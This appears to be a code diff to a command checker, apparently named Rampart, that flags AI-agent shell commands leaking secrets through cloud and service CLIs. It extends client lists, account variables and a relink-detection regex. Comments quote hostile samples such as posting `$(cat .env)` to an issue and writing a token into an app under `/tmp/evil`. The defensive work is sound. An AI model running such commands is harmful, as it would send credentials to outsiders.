@@ -27,7 +27,7 @@ export const looksUpNames = (name: string, args: readonly string[]): boolean => 
 /** Command-line clients of a remote service: every call they make goes to their service (gitlab.com, Heroku, AWS, Jira…),
  *  so what the line substitutes into their words is sent there — `glab issue note 1 -m "$(cat .env)"` posts the secret
  *  as surely as `gh issue comment` does. (Their file options are each analyzer's to read; this is their words.) */
-export const SERVICE_CLIS = /^(glab|tea|hub|lab|gt|bb|jira|jira-cli|acli|linear|heroku|vercel|netlify|fly|flyctl|wrangler|supabase|railway|render|firebase|doctl|linode-cli|hcloud|scw|oci|ibmcloud|aws|gcloud|gsutil|bq|az|op|bw|doppler|infisical|vault|stripe|twilio|sentry-cli|datadog-ci|slack|kaggle|huggingface-cli|hf|wandb|s3cmd|mc|rclone|b2|snowsql|databricks|ngrok|pulumi|auth0|okta|newrelic|pd|discord|telegram-send|gcalcli|notion|cloudinary|cld)$/;
+export const SERVICE_CLIS = /^(glab|tea|hub|lab|gt|bb|jira|jira-cli|acli|linear|heroku|vercel|netlify|fly|flyctl|wrangler|supabase|railway|render|firebase|doctl|linode-cli|hcloud|scw|oci|ibmcloud|aws|gcloud|gsutil|bq|az|op|bw|doppler|infisical|vault|stripe|twilio|sentry-cli|datadog-ci|slack|kaggle|huggingface-cli|hf|wandb|s3cmd|mc|rclone|b2|snowsql|databricks|ngrok|pulumi|auth0|okta|newrelic|pd|discord|telegram-send|gcalcli|notion|cloudinary|cld|travis|circleci|cf)$/;
 /** A service client storing a value as its own secret or setting (heroku config:set, fly secrets set, vercel env add):
  *  the everyday way a deploy gets its token, as gh secret set is for a repository — an environment credential given there
  *  is not exfiltration. (A secret FILE's text is still sent: its analyzers and the words above judge that.) */
@@ -36,7 +36,9 @@ export const SERVICE_CLIS = /^(glab|tea|hub|lab|gt|bb|jira|jira-cli|acli|linear|
 // (…only for the project's own app: see namesOtherOwner. Namespaced verbs too: firebase functions:secrets:set, netlify env:set.)
 // (A namespaced verb only for a client whose owner options are known — SETTINGS_OWNER: a verb Rampart has not met, twilio
 // serverless:env:set or sentry-cli x:env:set, is not its own settings on that client's word alone.)
-export const storesSetting = (name: string, args: readonly string[]): boolean => SERVICE_CLIS.test(name) && !namesOtherOwner(name, args)
+export const storesSetting = (name: string, args: readonly string[]): boolean => settingsVerb(name, args) && !namesOtherOwner(name, args);
+/** A service client's verb that stores a value as a setting or secret, whoever's (see storesSetting). */
+export const settingsVerb = (name: string, args: readonly string[]): boolean => SERVICE_CLIS.test(name)
   && args.slice(0, args.findIndex((a) => a.startsWith('-')) >>> 0).slice(0, 2).some((a) => /^(config:set|config:add|secrets?|env|config|variables?|vars?|put-parameter|put-secret-value|create-secret)$/.test(a)
     || (Object.hasOwn(SETTINGS_OWNER, name) && /^([\w-]+:)*(secrets|config|env):set$/.test(a)));
 /** Each service client's options that say whose settings a value goes to — an app, team, group, repository or project
@@ -54,6 +56,16 @@ const SETTINGS_OWNER: Record<string, string[]> = {
   vercel: ['S', 'scope', 'team', 't', 'token', 'cwd', 'A', 'local-config', 'Q', 'global-config'], netlify: ['site', 'auth'],
   glab: ['g', 'group', 'R', 'repo', 'hostname'], gh: ['R', 'repo', 'o', 'org'], wrangler: ['name', 'c', 'config'], supabase: ['project-ref', 'workdir'],
   railway: ['project'], doppler: ['p', 'project', 'token', 'scope', 'configuration'], firebase: ['P', 'project', 'token'], infisical: ['projectId', 'project-id', 'token'],
+  // (The clouds' own: a profile, project, account or subscription other than the one configured — aws secretsmanager
+  // put-secret-value … --profile other, gcloud secrets versions add … --project other — or another endpoint.)
+  // (travis reads its repository from the git remote, as gh does; circleci's contexts and cf's apps are always named.)
+  travis: ['r', 'repo', 'org', 'com', 'api-endpoint', 'e', 't', 'token'],
+  // (…and a cluster other than the current context's, for a credential put in a cluster object: kubectl create secret …
+  // --context other. kubectl is no service client — its words go to the cluster the project uses — but there they go to
+  // whichever one the line names.)
+  kubectl: ['context', 'kubeconfig', 'cluster', 's', 'server', 'token', 'user'], oc: ['context', 'kubeconfig', 'cluster', 's', 'server', 'token', 'user'],
+  helm: ['kube-context', 'kubeconfig', 'kube-apiserver', 'kube-token'],
+  aws: ['profile', 'endpoint-url'], gcloud: ['project', 'account', 'impersonate-service-account', 'access-token-file', 'configuration'], az: ['subscription'],
 };
 /** Each service client's variables that say which account (or server) it acts as. Set on the line to anything but the
  *  agent's own value, they make it act as whoever holds that token — anyone: HEROKU_API_KEY=KEY heroku config:set
@@ -64,19 +76,43 @@ const SETTINGS_ACCOUNT: Record<string, string[]> = {
   glab: ['GITLAB_TOKEN', 'GITLAB_ACCESS_TOKEN', 'OAUTH_TOKEN', 'GITLAB_HOST', 'GL_HOST', 'GITLAB_URI'], gh: ['GH_TOKEN', 'GITHUB_TOKEN', 'GH_ENTERPRISE_TOKEN', 'GH_REPO', 'GH_HOST'],
   wrangler: ['CLOUDFLARE_API_TOKEN', 'CLOUDFLARE_API_KEY', 'CLOUDFLARE_ACCOUNT_ID', 'CF_API_TOKEN', 'CF_ACCOUNT_ID'], supabase: ['SUPABASE_ACCESS_TOKEN', 'SUPABASE_PROJECT_ID'],
   railway: ['RAILWAY_TOKEN', 'RAILWAY_API_TOKEN'], doppler: ['DOPPLER_TOKEN', 'DOPPLER_PROJECT'], firebase: ['FIREBASE_TOKEN', 'GCLOUD_PROJECT'], infisical: ['INFISICAL_TOKEN'],
+  aws: ['AWS_PROFILE', 'AWS_DEFAULT_PROFILE', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'AWS_CONFIG_FILE', 'AWS_SHARED_CREDENTIALS_FILE', 'AWS_ENDPOINT_URL', 'AWS_ENDPOINT_URL_SECRETS_MANAGER', 'AWS_ENDPOINT_URL_SSM'],
+  gcloud: ['CLOUDSDK_CORE_PROJECT', 'CLOUDSDK_CORE_ACCOUNT', 'CLOUDSDK_CONFIG', 'CLOUDSDK_ACTIVE_CONFIG_NAME', 'CLOUDSDK_AUTH_ACCESS_TOKEN_FILE', 'CLOUDSDK_AUTH_IMPERSONATE_SERVICE_ACCOUNT', 'CLOUDSDK_API_ENDPOINT_OVERRIDES_SECRETMANAGER'],
+  az: ['AZURE_CONFIG_DIR'], travis: ['TRAVIS_TOKEN', 'TRAVIS_ENDPOINT'], kubectl: ['KUBECONFIG'], oc: ['KUBECONFIG'], helm: ['KUBECONFIG', 'HELM_KUBECONTEXT', 'HELM_KUBEAPISERVER', 'HELM_KUBETOKEN'],
 };
 /** True when the line sets `name`'s account variables (see SETTINGS_ACCOUNT) to other values than the agent's. */
 export function switchesAccount(name: string, env: Readonly<Record<string, string | undefined>>, agentEnv: Readonly<Record<string, string | undefined>>): boolean {
   return (Object.hasOwn(SETTINGS_ACCOUNT, name) ? SETTINGS_ACCOUNT[name]! : []).some((k) => env[k] !== agentEnv[k]);
 }
+/** Service clients that find whose settings they write from the directory they run in — heroku's git remote, fly.toml,
+ *  .vercel/, wrangler.toml, supabase/, doppler.yaml, .firebaserc, gh's and glab's git remote: run anywhere but the project
+ *  (cd /tmp/evil && heroku config:set K=$TOKEN), they write the settings of whatever app that directory links. */
+const CWD_LINKED = /^(heroku|fly|flyctl|vercel|netlify|wrangler|supabase|railway|doppler|firebase|infisical|gh|glab|render|travis)$/;
+/** A line that re-points the link a service client reads before it stores a setting — heroku git:remote -a X, gh repo
+ *  set-default X, a git remote added or re-pointed, vercel/netlify/supabase/railway link, firebase use, doppler setup, or a
+ *  link file written (fly.toml, wrangler.toml, .firebaserc, doppler.yaml, .vercel/, supabase's project-ref): the settings it
+ *  stores afterwards are the new link's, whoever owns it, not the project's own. */
+export const RELINKS = /(^|[\s;&|(])(heroku\s+git:remote\b|gh\s+repo\s+set-default\s+(?!-)\S|git\s+(-C\s+\S+\s+)?remote\s+(add|set-url|rename)\b|git\s+config\s+(--\S+\s+)*remote\.|(vercel|netlify|supabase|railway)\s+link\b|firebase\s+use\s+(?!-)\S|doppler\s+setup\b)|(>|\btee\s|\bcp\s|\bmv\s|\bsed\s+-i|\bln\s)[^;&|\n]*(fly\.toml|wrangler\.toml|\.firebaserc|doppler\.yaml|\.vercel\/|project-ref)/;
+/** True when `name args`, run in `cwd` with `env`, stores a value as the project's own setting or secret: a settings verb
+ *  (storesSetting), no other owner or account named (namesOtherOwner, switchesAccount), and — for a client that reads its
+ *  link from its directory — run inside the project. */
+export function ownSettingHere(name: string, args: readonly string[], env: Readonly<Record<string, string | undefined>>, agentEnv: Readonly<Record<string, string | undefined>>, cwd: string, projectRoot: string): boolean {
+  return storesSetting(name, args) && !switchesAccount(name, env, agentEnv) && (!CWD_LINKED.test(name) || cwd === projectRoot || cwd.startsWith(`${projectRoot}/`));
+}
+/** A cluster client (kubectl, oc, helm) pointed at another cluster than the current context's, on the line: what its words
+ *  carry goes there (see SETTINGS_OWNER). */
+export const otherCluster = (name: string, args: readonly string[], env: Readonly<Record<string, string | undefined>>, agentEnv: Readonly<Record<string, string | undefined>>): boolean =>
+  /^(kubectl|oc|helm)$/.test(name) && (namesOtherOwner(name, args) || switchesAccount(name, env, agentEnv));
 /** True when `name args` names whose settings it writes (see SETTINGS_OWNER). */
 export function namesOtherOwner(name: string, args: readonly string[]): boolean {
   const opts = Object.hasOwn(SETTINGS_OWNER, name) ? SETTINGS_OWNER[name]! : [];
   return args.some((a, k) => opts.some((o) => {
-    const at = o.length === 1 ? a.startsWith(`-${o}`) && !a.startsWith('--') : a === `--${o}` || a.startsWith(`--${o}=`);
+    // (…or last in a cluster of short options, or before its attached value there: glab variable set K V -mR evil/x.)
+    const j = o.length === 1 && /^-[A-Za-z]+$/.test(a) ? a.indexOf(o, 1) : a.startsWith(`-${o}`) && !a.startsWith('--') ? 1 : -1;
+    const at = o.length === 1 ? j >= 1 : a === `--${o}` || a.startsWith(`--${o}=`);
     if (!at || !(LINK_PATH_OPTIONS[name] ?? []).includes(o)) return at;
     // (A file or directory option naming a place inside the project — fly secrets set … --config fly.toml — is its own link.)
-    const v = o.length === 1 ? (a.length > 2 ? a.slice(2) : args[k + 1]) : a.includes('=') ? a.slice(a.indexOf('=') + 1) : args[k + 1];
+    const v = o.length === 1 ? (a.length > j + 1 ? a.slice(j + 1) : args[k + 1]) : a.includes('=') ? a.slice(a.indexOf('=') + 1) : args[k + 1];
     return v === undefined || /^(\/|~|\$|`)|(^|\/)\.\.(\/|$)/.test(v);
   }));
 }
@@ -350,6 +386,8 @@ export function withAliases(base: GitReader | undefined, extra: Map<string, stri
     currentBranch: () => branch ?? base?.currentBranch(),
     upstreamRemote: () => base?.upstreamRemote(),
     at: base?.at ? (d) => base.at!(d) : undefined,
+    // (A branch the line switched to or made is one, whatever the repository held before.)
+    hasRef: base?.hasRef ? (n) => n === branch || base.hasRef!(n) : undefined,
   };
 }
 
